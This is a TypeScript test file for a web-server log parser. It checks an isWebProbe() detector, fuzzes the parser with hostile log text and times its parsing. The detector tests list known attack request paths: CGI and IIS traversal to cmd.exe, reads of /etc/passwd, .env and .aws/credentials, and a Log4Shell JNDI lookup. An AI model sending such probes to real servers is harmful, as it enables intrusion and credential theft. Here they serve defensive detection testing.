import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { http } from '../../src/parse/http.ts';
import { isWebProbe } from '../../src/parse/web-probes.ts';
import { attemptOf, fastestMs, parseLine } from '../support/host-line.ts';
import { runLineFixtures } from '../support/line-fixtures.ts';

const parse = (line: string) => parseLine(http, line);
const TIME = '[23/Nov/2026:03:00:00 +0100]';

describe('isWebProbe()', () => {
  it.each([
    '/cgi-bin/phf',
    '/CGI-BIN/test-cgi',
    '/%63gi-bin/x',
    '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir',
    '/scripts/root.exe?/c+dir',
    '/default.ida?NNNN',
    '/../../../etc/passwd',
    '/icons/.%2e/%2e%2e/%2e%2e/bin/sh',
    '/icons/\\x2e\\x2e/x',
    '/a/..',
    '/wp-login.php',
    '/blog/xmlrpc.php',
    '/.env',
    '/.git/HEAD',
    '/.aws/credentials',
    '/phpMyAdmin/index.php',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/?x=$%7bjndi:ldap://192.0.2.1/a%7d',
    '/boaform/admin/formLogin',
  ])('%s', (target) => expect(isWebProbe(target)).toBe(true));

  it.each([
    '/',
    '/index.html',
    '/img/..small.png',
    '/a..b/c',
    '/environment',
    '/git/',
    '/%',
    '/%zz',
    '*',
    '',
    '/.well-known/x',
  ])('not %j', (target) => expect(isWebProbe(target)).toBe(false));
});

describe('the path', () => {
  it('is bounded', () => {
    const attempt = attemptOf(parse(`198.51.100.7 - - ${TIME} "GET /${'x'.repeat(9000)} HTTP/1.1" 200 1`));
    expect(attempt?.path).toHaveLength(256);
  });
});

describe('hostile text', () => {
  /** Apache and nginx escape quotes, backslashes and control characters (util.c, ap_escape_logitem). */
  const escaped = (text: string) =>
    text
      .replace(/["\\]/g, '\\$&')
      .replace(/[\0-\x1f\x7f]/g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`);
  const text = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          ...[
            '192.0.2.9',
            ' - - ',
            TIME,
            ' "',
            '"',
            '] "',
            '\\',
            '\\"',
            ' 404 1',
            'GET /.env HTTP/1.1',
            ' ',
            '\n',
          ],
        ),
        fc.string({ unit: 'binary', maxLength: 12 }),
      ),
      { maxLength: 10 },
    )
    .map((parts) => parts.join(''));

  it('in request, referer, agent and user never moves the address, the status or the port', () => {
    fc.assert(
      fc.property(text, text, text, text, (user, path, referer, agent) => {
        const back = `"GET ${escaped(path)} HTTP/1.1" 200 5 "${escaped(referer)}" "${escaped(agent)}"`;
        const line = `198.51.100.7 - u${escaped(user)} ${TIME} ${back}`;
        const attempt = attemptOf(parse(line));
        expect(attempt?.source, line).toEqual({ ip: '198.51.100.7' });
        expect(attempt?.destination).toEqual({ port: 80 });
        expect(attempt?.action).toBe(isWebProbe(escaped(path)) ? 'failed' : 'allowed');
      }),
      { numRuns: 2000 },
    );
  });

  it('never throws, whether escaped or not, with and without a header', () => {
    fc.assert(
      fc.property(text, fc.boolean(), (line, header) => {
        const attempt = attemptOf(parse(header ? `Nov 23 03:00:00 web1 nginx: ${line}` : line));
        if (attempt?.source.ip?.includes('.')) expect(line).toContain(attempt.source.ip);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([' ', '"', '\\', '\\"', '] "', ` ${TIME} "`, `${TIME} `, '/', '%25', '1 ', 'a', '['])(
    'of 64 KiB made of %j is read in 5 ms',
    (piece) => {
      const filling = piece.repeat(Math.floor(65_536 / piece.length));
      const places = [filling, `198.51.100.7 - ${filling} ${TIME} "GET / HTTP/1.1" 200 5`];
      places.push(
        `198.51.100.7 - - ${TIME} "GET ${filling} HTTP/1.1" 200 5`,
        `198.51.100.7 - - ${TIME} "${filling}`,
      );
      for (const line of places)
        expect(
          fastestMs(() => parse(line)),
          line.slice(0, 80),
        ).toBeLessThan(5);
    },
  );
});

runLineFixtures('http', parse);
